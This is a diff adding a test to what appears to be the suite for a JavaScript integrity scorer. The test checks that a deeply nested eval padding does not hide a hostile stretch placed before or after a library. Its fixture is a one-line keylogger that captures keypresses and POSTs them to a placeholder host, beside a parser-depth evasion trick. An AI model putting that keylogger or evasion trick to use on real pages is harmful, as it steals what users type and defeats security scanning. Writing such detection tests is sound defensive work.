@@ -57,3 +57,14 @@ test('hostile code behind a library is found, and the reasons say where it stand
   // The library alone is none.
   expect(scoreScript(library(400)).scores?.js_integrity_score).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
 })
+
+test.each([
+  ['before a library', (deep: string, code: string) => `${code}\n${deep}\n${library(400)}`],
+  ['behind a library', (deep: string, code: string) => `${library(400)}\n${deep}\n${code}`],
+])('code that is too deep to be read does not hide a hostile stretch %s', (_, write) => {
+  const deep = `try{eval('('.repeat(50000))}catch(e){}`
+  const keys = `var k='';document.onkeypress=function(e){k+=e.key;fetch('https://a.example/k',{method:'POST',body:k})}`
+  expect(scoreScript(write(deep, keys)).scores?.js_integrity_score).toBeLessThan(MALICIOUS_BELOW)
+  // A harmless stretch clears nothing.
+  expect(scoreScript(write(deep, SENDS))).toEqual({ scores: null, unscored: 'deep', reasons: [] })
+})
